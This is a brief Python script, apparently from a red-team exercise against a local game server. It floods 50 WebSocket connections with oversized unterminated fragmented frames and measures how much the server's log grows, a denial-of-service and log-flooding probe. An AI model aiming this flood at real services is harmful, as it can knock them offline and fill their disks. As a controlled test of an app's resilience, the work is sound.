import websocket, time, json, os
g=json.load(open("game.json")); PIN=g["g"]["pin"]; WS="ws://127.0.0.1:18700"
sz0=os.path.getsize("/work/redteam2/app.log"); t=time.time(); sent=0
res=[]
for i in range(50):
    w=websocket.create_connection(f"{WS}/ws/play/{PIN}",timeout=5)
    w.send_frame(websocket.ABNF.create_frame("a"*65000, websocket.ABNF.OPCODE_TEXT, 0))
    for k in range(4): w.send_frame(websocket.ABNF.create_frame("a"*65000, websocket.ABNF.OPCODE_CONT, 0))
    sent+=65000*5
    try:
        w.settimeout(3); op,data=w.recv_data(control_frame=True); res.append((op,data[:2]))
    except Exception as e: res.append(type(e).__name__)
time.sleep(1)
print("sent %d KB in %.1fs; log grew %d KB"%(sent//1024,time.time()-t,(os.path.getsize("/work/redteam2/app.log")-sz0)//1024))
print(res[:3])
